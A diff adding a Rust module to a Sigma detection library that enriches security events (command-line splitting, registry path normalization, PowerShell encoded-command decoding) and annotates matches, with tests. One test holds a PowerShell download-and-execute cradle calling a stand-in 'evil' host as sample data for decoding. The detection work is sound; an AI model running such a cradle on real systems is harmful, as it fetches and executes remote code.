@@ -0,0 +1,884 @@
+//! Enrich events before they are matched.
+//!
+//! Collectors often normalize and enrich events before they are evaluated, e.g. to lowercase
+//! paths or to split command lines into their arguments. An [`Enricher`] takes an event and
+//! returns the enriched event, and [`MatchStream::with_enricher`](crate::MatchStream::with_enricher)
+//! runs it on every event of a stream before the rules are matched. The fields of the matches
+//! and the events of a [`ContextWindow`](crate::context::ContextWindow) are those of the
+//! enriched event, so enrichment and detection share one pipeline.
+//!
+//! Several enrichers are run in the order they were added, and [`Enrichers`] combines them
+//! into one, e.g. to share them between the streams of several threads. The following
+//! enrichers are built in:
+//! * [`LowercasePaths`] lowercases the values of fields, e.g. of file paths
+//! * [`SplitCommandLine`] splits a command line into its arguments
+//! * [`NormalizeRegistryPaths`] normalizes Windows registry paths with
+//!   [`normalize_registry_path`]
+//! * [`DecodeEncodedCommand`] decodes the `-EncodedCommand` of PowerShell command lines
+//!   (requires the `base64` feature)
+//!
+//! After matching, an [`Annotator`] adds [`MatchResult::annotations`] to the matches before
+//! they reach a sink, see [`MatchStream::with_annotator`](crate::MatchStream::with_annotator).
+//! Annotators are combined with [`Annotators`], and the following are built in:
+//! * [`AttackTechniques`] adds the names of the ATT&CK techniques of the tags of a rule
+//! * [`AssetCriticality`] looks up the criticality of the asset of a match, e.g. of its host
+//!
+//! # Example
+//! ```rust
+//! use sigma_rust::enrich::{LowercasePaths, SplitCommandLine};
+//! use sigma_rust::{rule_from_yaml, Event, RuleSet};
+//!
+//! let rule = rule_from_yaml(
+//!     r#"
+//! title: Encoded PowerShell
+//! logsource:
+//! detection:
+//!     selection:
+//!         Image|endswith: '\powershell.exe'
+//!         CommandLineArgs|cased: '-enc'
+//!     condition: selection
+//! "#,
+//! )
+//! .unwrap();
+//! let rule_set = RuleSet::new(vec![rule]);
+//!
+//! let events = vec![Event::from([
+//!     ("Image", r"C:\Windows\PowerShell.exe"),
+//!     ("CommandLine", r#""C:\Windows\PowerShell.exe" -ENC SQBFAFgA"#),
+//! ])];
+//! let matches = rule_set
+//!     .stream(events)
+//!     .with_enricher(SplitCommandLine::default())
+//!     .with_enricher(LowercasePaths::new(["Image", "CommandLineArgs"]))
+//!     .count();
+//! assert_eq!(matches, 1);
+//! ```
+use crate::basevalue::BaseValue;
+use crate::event::{Event, EventValue};
+use crate::result::MatchResult;
+use std::collections::HashMap;
+use std::fmt;
+use std::sync::Arc;
+
+/// Transforms an event before it is matched, see the [module documentation](self)
+pub trait Enricher: fmt::Debug + Send + Sync {
+    /// The enriched event
+    fn enrich(&self, event: Event) -> Event;
+}
+
+impl<E: Enricher + ?Sized> Enricher for Arc<E> {
+    fn enrich(&self, event: Event) -> Event {
+        (**self).enrich(event)
+    }
+}
+
+impl<E: Enricher + ?Sized> Enricher for Box<E> {
+    fn enrich(&self, event: Event) -> Event {
+        (**self).enrich(event)
+    }
+}
+
+/// A sequence of enrichers that are run in the order they were added
+#[derive(Debug, Clone, Default)]
+pub struct Enrichers {
+    enrichers: Vec<Arc<dyn Enricher>>,
+}
+
+impl Enrichers {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Run `enricher` after the enrichers added before
+    pub fn with<E: Enricher + 'static>(mut self, enricher: E) -> Self {
+        self.push(enricher);
+        self
+    }
+
+    pub fn push<E: Enricher + 'static>(&mut self, enricher: E) {
+        self.enrichers.push(Arc::new(enricher));
+    }
+
+    pub fn len(&self) -> usize {
+        self.enrichers.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.enrichers.is_empty()
+    }
+}
+
+impl Enricher for Enrichers {
+    fn enrich(&self, event: Event) -> Event {
+        self.enrichers
+            .iter()
+            .fold(event, |event, enricher| enricher.enrich(event))
+    }
+}
+
+/// Lowercases the string values of fields, e.g. of file paths on Windows, so rules can match
+/// them case-sensitively with the `cased` modifier or compare them with `fieldref`. Values in
+/// lists are lowercased as well, other values are left unchanged.
+#[derive(Debug, Clone)]
+pub struct LowercasePaths {
+    fields: Vec<String>,
+}
+
+impl LowercasePaths {
+    pub fn new<I, S>(fields: I) -> Self
+    where
+        I: IntoIterator<Item = S>,
+        S: Into<String>,
+    {
+        Self {
+            fields: fields.into_iter().map(Into::into).collect(),
+        }
+    }
+}
+
+impl Default for LowercasePaths {
+    /// Lowercases the paths of the images and files of the Sysmon process creation and file
+    /// events
+    fn default() -> Self {
+        Self::new([
+            "Image",
+            "ParentImage",
+            "OriginalFileName",
+            "TargetFilename",
+            "CurrentDirectory",
+        ])
+    }
+}
+
+impl Enricher for LowercasePaths {
+    fn enrich(&self, mut event: Event) -> Event {
+        for field in &self.fields {
+            if let Some(value) = event.get_mut(field) {
+                lowercase(value);
+            }
+        }
+        event
+    }
+}
+
+fn lowercase(value: &mut EventValue) {
+    match value {
+        EventValue::Value(BaseValue::String(s)) if s.chars().any(char::is_uppercase) => {
+            *s = s.to_lowercase();
+        }
+        EventValue::Sequence(values) => values.iter_mut().for_each(lowercase),
+        _ => {}
+    }
+}
+
+/// Splits the command line of a field into its arguments with [`split_command_line`] and
+/// stores them as a list in another field, so rules can match single arguments instead of
+/// substrings of the command line. Events without the field are left unchanged.
+#[derive(Debug, Clone)]
+pub struct SplitCommandLine {
+    field: String,
+    target: String,
+}
+
+impl SplitCommandLine {
+    /// Split the command line of `field` into the list `target`
+    pub fn new<S: Into<String>, T: Into<String>>(field: S, target: T) -> Self {
+        Self {
+            field: field.into(),
+            target: target.into(),
+        }
+    }
+}
+
+impl Default for SplitCommandLine {
+    /// Splits `CommandLine` into `CommandLineArgs`
+    fn default() -> Self {
+        Self::new("CommandLine", "CommandLineArgs")
+    }
+}
+
+impl Enricher for SplitCommandLine {
+    fn enrich(&self, mut event: Event) -> Event {
+        if let Some(EventValue::Value(BaseValue::String(command_line))) = event.get(&self.field) {
+            let args = command_line_arguments(command_line);
+            event.insert(self.target.as_str(), args);
+        }
+        event
+    }
+}
+
+/// The arguments of a command line split with [`split_command_line`] as a sequence of strings
+pub(crate) fn command_line_arguments(command_line: &str) -> EventValue {
+    EventValue::Sequence(
+        split_command_line(command_line)
+            .into_iter()
+            .map(EventValue::from)
+            .collect(),
+    )
+}
+
+/// Split a command line into its arguments like Windows programs do. Arguments are separated
+/// by whitespace unless it is enclosed in double quotes, and a double quote preceded by a
+/// backslash is taken literally. Backslashes are only special in front of a double quote:
+/// pairs of them are taken as one backslash.
+///
+/// # Example
+/// ```rust
+/// use sigma_rust::enrich::split_command_line;
+///
+/// assert_eq!(
+///     split_command_line(r#""C:\Program Files\app.exe" /c "say \"hi\"" C:\temp\"#),
+///     [r"C:\Program Files\app.exe", "/c", r#"say "hi""#, r"C:\temp\"]
+/// );
+/// ```
+pub fn split_command_line(command_line: &str) -> Vec<String> {
+    let mut args = vec![];
+    let mut arg = String::new();
+    // Whether the current argument was started, so empty quoted arguments are kept
+    let mut started = false;
+    let mut quoted = false;
+    let mut backslashes = 0;
+    for c in command_line.chars() {
+        match c {
+            '\\' => {
+                backslashes += 1;
+                started = true;
+                continue;
+            }
+            '"' => {
+                arg.extend(std::iter::repeat('\\').take(backslashes / 2));
+                if backslashes % 2 == 1 {
+                    arg.push('"');
+                } else {
+                    quoted = !quoted;
+                }
+                started = true;
+            }
+            c if c.is_whitespace() && !quoted => {
+                arg.extend(std::iter::repeat('\\').take(backslashes));
+                if started {
+                    args.push(std::mem::take(&mut arg));
+                    started = false;
+                }
+            }
+            c => {
+                arg.extend(std::iter::repeat('\\').take(backslashes));
+                arg.push(c);
+                started = true;
+            }
+        }
+        backslashes = 0;
+    }
+    arg.extend(std::iter::repeat('\\').take(backslashes));
+    if started {
+        args.push(arg);
+    }
+    args
+}
+
+/// The long names and kernel paths of the registry root keys and their abbreviations
+const REGISTRY_ROOTS: [(&str, &str); 7] = [
+    ("HKEY_LOCAL_MACHINE", "HKLM"),
+    ("HKEY_CURRENT_USER", "HKCU"),
+    ("HKEY_USERS", "HKU"),
+    ("HKEY_CLASSES_ROOT", "HKCR"),
+    ("HKEY_CURRENT_CONFIG", "HKCC"),
+    ("\\REGISTRY\\MACHINE", "HKLM"),
+    ("\\REGISTRY\\USER", "HKU"),
+];
+
+/// The abbreviated registry root keys
+const REGISTRY_ABBREVIATIONS: [&str; 5] = ["HKLM", "HKCU", "HKU", "HKCR", "HKCC"];
+
+/// Normalize a Windows registry path, so the different notations of the same key compare
+/// equal:
+/// * The root key is abbreviated, e.g. `HKEY_LOCAL_MACHINE` and `\REGISTRY\MACHINE` become
+///   `HKLM`, and the `Registry::` prefix and the colon of PowerShell drives are removed.
+/// * Numbered control sets like `ControlSet001` become `CurrentControlSet`.
+/// * Trailing backslashes and slashes are removed.
+///
+/// The rest of the path keeps its case, and values that do not start with a root key are
+/// only normalized in the control sets and trailing separators, so wildcard patterns like
+/// `*\ControlSet001\Services\*` of rules are normalized as well.
+///
+/// # Example
+/// ```rust
+/// use sigma_rust::enrich::normalize_registry_path;
+///
+/// assert_eq!(
+///     normalize_registry_path(r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\"),
+///     r"HKLM\SYSTEM\CurrentControlSet\Services"
+/// );
+/// assert_eq!(
+///     normalize_registry_path(r"\REGISTRY\MACHINE\SOFTWARE\Run"),
+///     r"HKLM\SOFTWARE\Run"
+/// );
+/// assert_eq!(normalize_registry_path(r"hkcu:\Software"), r"HKCU\Software");
+/// ```
+pub fn normalize_registry_path(path: &str) -> String {
+    normalize_registry_path_with(path, true)
+}
+
+/// Normalize a registry path like [`normalize_registry_path`], but keep trailing separators
+/// unless `trim_separators` is set. In rule values that match the start or a part of a path,
+/// a trailing separator marks the end of a key, e.g. `\Run\` does not match `\RunOnce\`.
+pub(crate) fn normalize_registry_path_with(path: &str, trim_separators: bool) -> String {
+    let unprefixed = strip_prefix_ignore_case(path, "Registry::").unwrap_or(path);
+    let is_key = |tail: &str| tail.is_empty() || tail.starts_with('\\');
+    let long = REGISTRY_ROOTS.into_iter().find_map(|(long, short)| {
+        strip_prefix_ignore_case(unprefixed, long)
+            .filter(|tail| is_key(tail))
+            .map(|tail| (short, tail))
+    });
+    let short = || {
+        REGISTRY_ABBREVIATIONS.into_iter().find_map(|short| {
+            strip_prefix_ignore_case(unprefixed, short)
+                .map(|tail| tail.strip_prefix(':').unwrap_or(tail))
+                .filter(|tail| is_key(tail))
+                .map(|tail| (short, tail))
+        })
+    };
+    // Paths without a root key, e.g. patterns of rules, are kept as they are
+    let (root, rest) = long.or_else(short).unwrap_or(("", path));
+
+    let mut normalized = String::with_capacity(path.len());
+    normalized.push_str(root);
+    for (i, segment) in rest.split('\\').enumerate() {
+        if i > 0 {
+            normalized.push('\\');
+        }
+        if is_control_set(segment) {
+            normalized.push_str("CurrentControlSet");
+        } else {
+            normalized.push_str(segment);
+        }
+    }
+    let trimmed = normalized.trim_end_matches(['\\', '/']).len();
+    // Keep a path that consists only of separators
+    if trim_separators && trimmed > 0 {
+        normalized.truncate(trimmed);
+    }
+    normalized
+}
+
+fn strip_prefix_ignore_case<'a>(s: &'a str, prefix: &str) -> Option<&'a str> {
+    let head = s.get(..prefix.len())?;
+    head.eq_ignore_ascii_case(prefix)
+        .then(|| s.get(prefix.len()..))
+        .flatten()
+}
+
+/// Whether a segment of a registry path is a numbered control set like `ControlSet001`
+fn is_control_set(segment: &str) -> bool {
+    strip_prefix_ignore_case(segment, "ControlSet")
+        .is_some_and(|n| n.len() == 3 && n.bytes().all(|b| b.is_ascii_digit()))
+}
+
+/// Normalizes the registry paths of fields with [`normalize_registry_path`], so rules match
+/// them regardless of the notation of the collector. Values in lists are normalized as well,
+/// other values are left unchanged. Normalize the values of the rules with
+/// [`Transformation::NormalizeRegistryPaths`](crate::pipeline::Transformation) as well.
+#[derive(Debug, Clone)]
+pub struct NormalizeRegistryPaths {
+    fields: Vec<String>,
+}
+
+impl NormalizeRegistryPaths {
+    pub fn new<I, S>(fields: I) -> Self
+    where
+        I: IntoIterator<Item = S>,
+        S: Into<String>,
+    {
+        Self {
+            fields: fields.into_iter().map(Into::into).collect(),
+        }
+    }
+}
+
+impl Default for NormalizeRegistryPaths {
+    /// Normalizes `TargetObject` of the Sysmon registry events
+    fn default() -> Self {
+        Self::new(["TargetObject"])
+    }
+}
+
+impl Enricher for NormalizeRegistryPaths {
+    fn enrich(&self, mut event: Event) -> Event {
+        for field in &self.fields {
+            if let Some(value) = event.get_mut(field) {
+                normalize_registry_value(value);
+            }
+        }
+        event
+    }
+}
+
+fn normalize_registry_value(value: &mut EventValue) {
+    match value {
+        EventValue::Value(BaseValue::String(s)) => *s = normalize_registry_path(s),
+        EventValue::Sequence(values) => values.iter_mut().for_each(normalize_registry_value),
+        _ => {}
+    }
+}
+
+/// Decodes the base64 encoded UTF-16 script of the `-EncodedCommand` argument of a PowerShell
+/// command line and stores it in another field, so rules can match the script instead of its
+/// encoding. All abbreviations of the parameter are recognized, e.g. `-enc`, `-e` and `-ec`, as
+/// well as the `/` and dash prefixes that PowerShell accepts. Command lines without an encoded
+/// command, or with one that is not valid base64 encoded UTF-16, are left unchanged.
+///
+/// # Example
+/// ```rust
+/// use sigma_rust::enrich::{DecodeEncodedCommand, Enricher};
+/// use sigma_rust::{Event, EventValue};
+///
+/// let event = Event::from([(
+///     "CommandLine",
+///     "powershell.exe -NoP -enc dwBoAG8AYQBtAGkA",
+/// )]);
+/// let event = DecodeEncodedCommand::default().enrich(event);
+/// assert_eq!(event.get("DecodedCommandLine"), Some(&EventValue::from("whoami")));
+/// ```
+#[cfg(feature = "base64")]
+#[derive(Debug, Clone)]
+pub struct DecodeEncodedCommand {
+    field: String,
+    target: String,
+}
+
+#[cfg(feature = "base64")]
+impl DecodeEncodedCommand {
+    /// Decode the encoded command of the command line of `field` into `target`
+    pub fn new<S: Into<String>, T: Into<String>>(field: S, target: T) -> Self {
+        Self {
+            field: field.into(),
+            target: target.into(),
+        }
+    }
+}
+
+#[cfg(feature = "base64")]
+impl Default for DecodeEncodedCommand {
+    /// Decodes the encoded command of `CommandLine` into `DecodedCommandLine`
+    fn default() -> Self {
+        Self::new("CommandLine", "DecodedCommandLine")
+    }
+}
+
+#[cfg(feature = "base64")]
+impl Enricher for DecodeEncodedCommand {
+    fn enrich(&self, mut event: Event) -> Event {
+        if let Some(EventValue::Value(BaseValue::String(command_line))) = event.get(&self.field) {
+            if let Some(script) = decode_encoded_command(command_line) {
+                event.insert(self.target.as_str(), script);
+            }
+        }
+        event
+    }
+}
+
+/// The decoded script of the first `-EncodedCommand` argument of a command line
+#[cfg(feature = "base64")]
+fn decode_encoded_command(command_line: &str) -> Option<String> {
+    use base64::engine::general_purpose::STANDARD_NO_PAD;
+    use base64::Engine;
+
+    let args = split_command_line(command_line);
+    let position = args.iter().position(|arg| is_encoded_command(arg))?;
+    let encoded = args.get(position + 1)?.trim_end_matches('=');
+    let bytes = STANDARD_NO_PAD.decode(encoded).ok()?;
+    if bytes.len() % 2 != 0 {
+        return None;
+    }
+    let utf16: Vec<u16> = bytes
+        .chunks_exact(2)
+        .filter_map(|pair| pair.try_into().ok())
+        .map(u16::from_le_bytes)
+        .collect();
+    String::from_utf16(&utf16).ok()
+}
+
+/// Whether an argument is the `-EncodedCommand` parameter or one of its abbreviations
+#[cfg(feature = "base64")]
+fn is_encoded_command(arg: &str) -> bool {
+    // PowerShell accepts the en dash, em dash and horizontal bar as well
+    let Some(name) = arg.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']) else {
+        return false;
+    };
+    let name = name.to_ascii_lowercase();
+    name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(&name))
+}
+
+/// Annotates a match before it is sent, see the [module documentation](self)
+pub trait Annotator: fmt::Debug + Send + Sync {
+    /// Add annotations to the match, usually to [`MatchResult::annotations`]
+    fn annotate(&self, result: &mut MatchResult);
+}
+
+impl<A: Annotator + ?Sized> Annotator for Arc<A> {
+    fn annotate(&self, result: &mut MatchResult) {
+        (**self).annotate(result)
+    }
+}
+
+impl<A: Annotator + ?Sized> Annotator for Box<A> {
+    fn annotate(&self, result: &mut MatchResult) {
+        (**self).annotate(result)
+    }
+}
+
+/// A sequence of annotators that are run in the order they were added
+#[derive(Debug, Clone, Default)]
+pub struct Annotators {
+    annotators: Vec<Arc<dyn Annotator>>,
+}
+
+impl Annotators {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Run `annotator` after the annotators added before
+    pub fn with<A: Annotator + 'static>(mut self, annotator: A) -> Self {
+        self.push(annotator);
+        self
+    }
+
+    pub fn push<A: Annotator + 'static>(&mut self, annotator: A) {
+        self.annotators.push(Arc::new(annotator));
+    }
+
+    pub fn len(&self) -> usize {
+        self.annotators.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.annotators.is_empty()
+    }
+}
+
+impl Annotator for Annotators {
+    fn annotate(&self, result: &mut MatchResult) {
+        for annotator in &self.annotators {
+            annotator.annotate(result);
+        }
+    }
+}
+
+/// Adds the names of the MITRE ATT&CK techniques of the tags of a rule, e.g. `Command and
+/// Scripting Interpreter: PowerShell` for `attack.t1059.001`, as a list to the annotation
+/// [`AttackTechniques::ANNOTATION`]. Techniques without a name are skipped.
+#[derive(Debug, Clone, Default)]
+pub struct AttackTechniques {
+    names: HashMap<String, String>,
+}
+
+impl AttackTechniques {
+    /// The name of the annotation
+    pub const ANNOTATION: &'static str = "attack_techniques";
+
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Name the technique `id`, e.g. `T1059.001`
+    pub fn with_technique<I: AsRef<str>, N: Into<String>>(mut self, id: I, name: N) -> Self {
+        self.insert(id, name);
+        self
+    }
+
+    pub fn insert<I: AsRef<str>, N: Into<String>>(&mut self, id: I, name: N) {
+        self.names.insert(id.as_ref().to_uppercase(), name.into());
+    }
+
+    pub fn len(&self) -> usize {
+        self.names.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.names.is_empty()
+    }
+}
+
+impl<I: AsRef<str>, N: Into<String>> FromIterator<(I, N)> for AttackTechniques {
+    fn from_iter<T: IntoIterator<Item = (I, N)>>(iter: T) -> Self {
+        let mut techniques = Self::new();
+        for (id, name) in iter {
+            techniques.insert(id, name);
+        }
+        techniques
+    }
+}
+
+impl Annotator for AttackTechniques {
+    fn annotate(&self, result: &mut MatchResult) {
+        let names: Vec<EventValue> = result
+            .attack_techniques()
+            .iter()
+            .filter_map(|id| self.names.get(id))
+            .map(|name| EventValue::from(name.as_str()))
+            .collect();
+        if !names.is_empty() {
+            result
+                .annotations
+                .insert(Self::ANNOTATION.to_string(), EventValue::Sequence(names));
+        }
+    }
+}
+
+/// Looks up the criticality of the asset of a match by the value of one of its
+/// [`MatchResult::fields`], e.g. of `Computer`, and adds it to the annotation
+/// [`AssetCriticality::ANNOTATION`]. Values are compared case-insensitively. Matches of unknown
+/// assets are annotated with the default criticality, if there is one.
+#[derive(Debug, Clone)]
+pub struct AssetCriticality {
+    field: String,
+    assets: HashMap<String, String>,
+    default: Option<String>,
+}
+
+impl AssetCriticality {
+    /// The name of the annotation
+    pub const ANNOTATION: &'static str = "asset_criticality";
+
+    /// Look up assets by the value of `field`, which has to be listed in the `fields` of the
+    /// rules
+    pub fn new<S: Into<String>>(field: S) -> Self {
+        Self {
+            field: field.into(),
+            assets: HashMap::new(),
+            default: None,
+        }
+    }
+
+    /// Set the criticality of the asset `name`, e.g. `high`
+    pub fn with_asset<A: AsRef<str>, C: Into<String>>(mut self, name: A, criticality: C) -> Self {
+        self.insert(name, criticality);
+        self
+    }
+
+    /// The criticality of assets that were not added
+    pub fn with_default<C: Into<String>>(mut self, criticality: C) -> Self {
+        self.default = Some(criticality.into());
+        self
+    }
+
+    pub fn insert<A: AsRef<str>, C: Into<String>>(&mut self, name: A, criticality: C) {
+        self.assets
+            .insert(name.as_ref().to_lowercase(), criticality.into());
+    }
+}
+
+impl Annotator for AssetCriticality {
+    fn annotate(&self, result: &mut MatchResult) {
+        let Some(asset) = result.fields.get(&self.field) else {
+            return;
+        };
+        let asset = asset.value_to_string().to_lowercase();
+        if let Some(criticality) = self.assets.get(&asset).or(self.default.as_ref()) {
+            result.annotations.insert(
+                Self::ANNOTATION.to_string(),
+                EventValue::from(criticality.as_str()),
+            );
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::rule_from_yaml;
+
+    #[test]
+    fn test_split_command_line() {
+        assert_eq!(split_command_line(""), Vec::<String>::new());
+        assert_eq!(
+            split_command_line("  cmd.exe   /c  dir "),
+            ["cmd.exe", "/c", "dir"]
+        );
+        assert_eq!(split_command_line(r#"a "" b"#), ["a", "", "b"]);
+        assert_eq!(split_command_line(r#"a"b c"d"#), ["ab cd"]);
+        assert_eq!(
+            split_command_line(r#"a\\\"b c\\"d e""#),
+            [r#"a\"b"#, r"c\d e"]
+        );
+        assert_eq!(
+            split_command_line(r"\\server\share\ x\\"),
+            [r"\\server\share\", r"x\\"]
+        );
+    }
+
+    #[test]
+    fn test_normalize_registry_path() {
+        for (path, expected) in [
+            (r"HKEY_LOCAL_MACHINE\Software\Run", r"HKLM\Software\Run"),
+            (r"hkey_users\S-1-5-18", r"HKU\S-1-5-18"),
+            (r"HKEY_CURRENT_USER", "HKCU"),
+            (
+                r"HKLM\SYSTEM\controlset002\Services",
+                r"HKLM\SYSTEM\CurrentControlSet\Services",
+            ),
+            (r"\REGISTRY\USER\S-1-5-18\", r"HKU\S-1-5-18"),
+            (r"Registry::HKEY_CLASSES_ROOT\.exe", r"HKCR\.exe"),
+            (r"HKLM:\Software\", r"HKLM\Software"),
+            (
+                r"*\ControlSet001\Services\*",
+                r"*\CurrentControlSet\Services\*",
+            ),
+            (r"\Software\Run\", r"\Software\Run"),
+            // Only complete root keys and control sets are normalized
+            (r"HKLMX\Software", r"HKLMX\Software"),
+            (r"HKEY_USERS_X", r"HKEY_USERS_X"),
+            (
+                r"HKLM\ControlSet0001\ControlSet",
+                r"HKLM\ControlSet0001\ControlSet",
+            ),
+            (r"\", r"\"),
+            ("", ""),
+        ] {
+            assert_eq!(normalize_registry_path(path), expected, "{}", path);
+        }
+    }
+
+    #[cfg(feature = "base64")]
+    #[test]
+    fn test_decode_encoded_command() {
+        use base64::engine::general_purpose::STANDARD;
+        use base64::Engine;
+
+        let script = "IEX (New-Object Net.WebClient).DownloadString('http://evil')";
+        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let encoded = STANDARD.encode(utf16);
+        let enricher = DecodeEncodedCommand::default();
+        let decode = |command_line: &str| {
+            let event = enricher.enrich(Event::from([("CommandLine", command_line)]));
+            event.get("DecodedCommandLine").cloned()
+        };
+
+        for parameter in ["-EncodedCommand", "-enc", "-E", "/ec", "\u{2013}enco"] {
+            let command_line = format!("powershell.exe -NoProfile {} \"{}\"", parameter, encoded);
+            assert_eq!(
+                decode(&command_line),
+                Some(EventValue::from(script)),
+                "{}",
+                command_line
+            );
+        }
+        // Padding is optional
+        let command_line = format!("pwsh -e {}", encoded.trim_end_matches('='));
+        assert_eq!(decode(&command_line), Some(EventValue::from(script)));
+
+        for command_line in [
+            "powershell.exe -ExecutionPolicy Bypass -File run.ps1",
+            "powershell.exe -enc",
+            "powershell.exe -enc not-base64!",
+            // An odd number of bytes is not UTF-16
+            "powershell.exe -enc d2hvYW1pLg",
+            "powershell.exe -encodedcommandx dwBoAG8AYQBtAGkA",
+        ] {
+            assert_eq!(decode(command_line), None, "{}", command_line);
+        }
+    }
+
+    #[test]
+    fn test_enrichers() {
+        let enrichers = Enrichers::new()
+            .with(SplitCommandLine::new(
+                "process.command_line",
+                "process.args",
+            ))
+            .with(LowercasePaths::new(["process.args", "Image", "Missing"]));
+        assert_eq!(enrichers.len(), 2);
+
+        let process = HashMap::from([(
+            "command_line".to_string(),
+            EventValue::from(r#"C:\CMD.EXE /C "Echo Hi""#),
+        )]);
+        let mut event = Event::from([("Image", r"C:\CMD.EXE")]);
+        event.insert("process", EventValue::Map(process));
+        event.insert("Size", 5);
+
+        let event = enrichers.enrich(event);
+        assert_eq!(event.get("Image"), Some(&EventValue::from(r"c:\cmd.exe")));
+        assert_eq!(
+            event.get("process.args"),
+            Some(&EventValue::Sequence(vec![
+                r"c:\cmd.exe".into(),
+                "/c".into(),
+                "echo hi".into()
+            ]))
+        );
+        // The command line itself and other values are unchanged
+        assert_eq!(
+            event.get("process.command_line"),
+            Some(&EventValue::from(r#"C:\CMD.EXE /C "Echo Hi""#))
+        );
+        assert_eq!(event.get("Size"), Some(&EventValue::from(5)));
+    }
+
+    #[test]
+    fn test_annotators() {
+        let rule = rule_from_yaml(
+            r#"
+title: Encoded PowerShell
+logsource:
+tags:
+    - attack.execution
+    - attack.t1059.001
+    - attack.t1027
+fields:
+    - Computer
+detection:
+    selection:
+        Image|endswith: '\powershell.exe'
+    condition: selection
+"#,
+        )
+        .unwrap();
+        let annotators = Annotators::new()
+            .with(
+                [("t1059.001", "Command and Scripting Interpreter: PowerShell")]
+                    .into_iter()
+                    .collect::<AttackTechniques>(),
+            )
+            .with(
+                AssetCriticality::new("Computer")
+                    .with_asset("DC-01", "critical")
+                    .with_default("low"),
+            );
+        let evaluate = |computer: &str| {
+            let mut result = rule
+                .evaluate(&Event::from([
+                    ("Image", r"C:\powershell.exe"),
+                    ("Computer", computer),
+                ]))
+                .unwrap();
+            annotators.annotate(&mut result);
+            result.annotations
+        };
+
+        let annotations = evaluate("dc-01");
+        assert_eq!(
+            annotations[AttackTechniques::ANNOTATION],
+            EventValue::Sequence(vec!["Command and Scripting Interpreter: PowerShell".into()])
+        );
+        assert_eq!(
+            annotations[AssetCriticality::ANNOTATION],
+            EventValue::from("critical")
+        );
+        assert_eq!(
+            evaluate("ws-01")[AssetCriticality::ANNOTATION],
+            EventValue::from("low")
+        );
+
+        // Nothing is annotated without known techniques or assets
+        let mut result = rule
+            .evaluate(&Event::from([("Image", r"C:\powershell.exe")]))
+            .unwrap();
+        Annotators::new()
+            .with(AttackTechniques::new())
+            .with(AssetCriticality::new("Computer"))
+            .annotate(&mut result);
+        assert!(result.annotations.is_empty());
+    }
+}